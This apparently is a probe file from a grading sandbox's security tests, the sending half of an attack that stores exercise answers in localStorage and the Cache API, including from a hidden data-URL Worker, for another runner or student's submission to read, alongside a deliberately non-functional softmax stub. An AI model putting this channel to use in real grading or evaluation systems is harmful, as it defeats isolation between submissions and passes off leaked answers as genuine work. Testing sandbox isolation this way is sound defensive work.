// attack: localStorage and the Cache API persist on disk outside the sandbox: one runner (2.3) leaves a message, another (2.4) picks it up — another exercise, or another student's submission in bulk grading
// exercises: 2.3, 2.4
// this file: the sending end: leave a message (answers, say) in localStorage and the Cache API, from the runner's own global or, where that has none, from a Worker's
// jobs: 1
import type { Tensor } from '@gradschool/tensor';

const message = JSON.stringify({ from: '2.3', at: Date.now(), answers: { 'softmax([0, 0])': [0.5, 0.5] } });

try { (globalThis as any).localStorage.setItem('gradschool-attack-pwned', message); } catch {}
try { await (await (globalThis as any).caches.open('gradschool-attack-pwned')).put('https://answers.invalid/2.3', new Response(message)); } catch {}

// a Worker has a global of its own, which may still have the Cache API
const SEND = `
try { await (await caches.open('gradschool-attack-pwned')).put('https://answers.invalid/2.3', new Response(${JSON.stringify(message)})); } catch {}
postMessage('sent');`;
try {
  const worker = new Worker(`data:application/javascript,${encodeURIComponent(SEND)}`, { type: 'module' });
  await Promise.race([new Promise((resolve) => { worker.onmessage = resolve; worker.onerror = (e) => { e.preventDefault(); resolve(0); }; }), new Promise((r) => setTimeout(r, 2_000))]);
  worker.terminate();
} catch {}

export function softmax(x: Tensor, dim = -1): Tensor {
  return x;
}
